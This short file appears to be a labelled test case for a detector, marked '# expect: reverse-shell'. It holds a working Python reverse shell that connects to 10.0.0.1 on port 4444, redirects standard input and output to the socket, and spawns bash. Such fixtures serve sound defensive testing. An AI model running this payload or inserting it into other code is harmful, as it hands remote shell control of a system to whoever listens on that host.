# expect: reverse-shell
python3 - <<'EOF'
import socket, pty, os
s = socket.socket()
s.connect(("10.0.0.1", 4444))
[os.dup2(s.fileno(), f) for f in (0, 1, 2)]
pty.spawn("bash")
EOF
